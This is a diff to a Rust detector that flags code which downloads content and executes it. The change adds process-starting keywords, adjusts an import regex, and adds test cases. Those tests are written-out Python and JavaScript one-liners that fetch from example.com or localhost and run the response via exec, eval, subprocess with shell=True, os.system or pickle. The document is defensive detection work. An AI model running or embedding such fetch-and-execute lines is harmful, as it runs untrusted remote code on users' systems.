@@ -30,6 +30,9 @@ const RUNS: &[&str] = &[
 /// Those that leave no doubt.
 const SURELY: &[&str] = &["eval(", "exec(", "execSync", "new Function", "spawn"];
 
+/// Those that start a program.
+const STARTS: &[&str] = &["system(", "popen", "Popen", "subprocess"];
+
 /// Signs that what was loaded is put somewhere, or handed to what is started.
 const KEEPS: &[&str] = &[
     "urlretrieve",
@@ -43,6 +46,9 @@ const KEEPS: &[&str] = &[
     "input=",
     "stdin",
     "communicate",
+    // Another name for what starts programs.
+    "subprocess as",
+    "from subprocess",
 ];
 
 /// What has the name of a thing that runs code and only reads data: `json.load(`, `re.compile(`, `/x/.exec(`.
@@ -71,8 +77,7 @@ fn starts_literally() -> &'static Regex {
             \bsubprocess\.(?:run|call|check_call|check_output|Popen)
                 \(\s*\[\s*(?:(?:"[^"\\]*"|'[^'\\]*')\s*,?\s*)+\]\s*[,)]
             | \bos\.system\(\s*(?:"[^"\\]*"|'[^'\\]*')\s*\)
-            | \bimport\s[\w\s,.]*
-            | \bfrom\s+[\w.]+\s+import\s"#,
+            | \bimport[\x20\t]+[\w\x20\t,.]+"#,
         )
         .expect("a pattern of this file")
     })
@@ -111,7 +116,7 @@ pub(super) fn run_from_the_network(code: &str, texts: &str) -> Option<Remote> {
     }
     if asks_itself(code) {
         // A service of the host's own; that its answer is run is worth a look.
-        return surely.then_some(Remote::Named);
+        return (surely || has(STARTS)).then_some(Remote::Named);
     }
     let open = texts.contains("http://") || !texts.contains("https://");
     Some(if open { Remote::Open } else { Remote::Named })
@@ -139,6 +144,9 @@ mod tests {
             "import urllib.request as u; exec(u.urlopen('https://example.com/x').read())",
             "import subprocess, requests; subprocess.run(requests.get('https://example.com/x').text, shell=True)",
             "import subprocess, requests; subprocess.run(['sh'], input=requests.get('https://example.com/x').content)",
+            "import requests\nimport subprocess\nsubprocess.run(requests.get('https://example.com/x').text, shell=True)",
+            "import subprocess as s, requests; s.run(requests.get('https://example.com/x').text, shell=True)",
+            "from subprocess import run; import requests; run(requests.get('https://example.com/x').text, shell=True)",
             "import os, urllib.request as u; u.urlretrieve('https://example.com/x', '/opt/x'); os.system('sh /opt/x')",
             "import pickle, requests; pickle.loads(x); pickle.load(requests.get('https://example.com/x', stream=True).raw)",
             "const r = await fetch('https://example.com/x'); eval(await r.text())",
@@ -153,6 +161,8 @@ mod tests {
         assert_eq!(run_from_the_network(asks, asks), None);
         let runs = "import requests; exec(requests.get('http://localhost:8080/x').text)";
         assert_eq!(run_from_the_network(runs, runs), Some(Remote::Named));
+        let starts = "import os, requests; os.system(requests.get('http://localhost:8080/x').text)";
+        assert_eq!(run_from_the_network(starts, starts), Some(Remote::Named));
         let other = "import requests; exec(requests.get('http://localhost.example.com/x').text)";
         assert_eq!(run_from_the_network(other, other), Some(Remote::Open));
     }
